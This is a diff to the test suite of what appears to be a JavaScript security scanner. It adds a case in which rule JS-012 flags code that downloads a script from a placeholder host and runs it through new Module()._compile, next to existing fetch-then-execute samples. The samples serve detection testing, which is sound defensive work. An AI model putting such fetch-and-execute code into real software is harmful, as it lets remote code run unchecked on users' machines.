@@ -35,6 +35,14 @@ describe('JS-012 evidence of where the code comes from', () => {
       fetch('https://x.invalid/s.js').then((r) => r.text()).then((t) => requireFromString(t));`;
     expect((await ruleFindings('JS-012', rfs))[0]?.severity).toBe('critical');
   });
+  it('sees downloaded code compiled as a CommonJS module (new Module()._compile)', async () => {
+    const compile = `const https = require('https'); const Module = require('module');
+      https.get('https://x.invalid/s.js', (r) => { let d = ''; r.on('data', (c) => (d += c));
+        r.on('end', () => { const m = new Module('x'); m._compile(d, 'x.js'); }); });`;
+    const f = await ruleFindings('JS-012', compile);
+    expect(f[0]?.severity).toBe('critical');
+    expect(f[0]?.message).toMatch(/module\._compile/);
+  });
   it('a template engine compiling a fetched template is not module compilation', async () => {
     const code = `const tpl = new Engine();
       fetch('https://x.invalid/t.html').then((r) => r.text()).then((t) => tpl._compile(t));`;
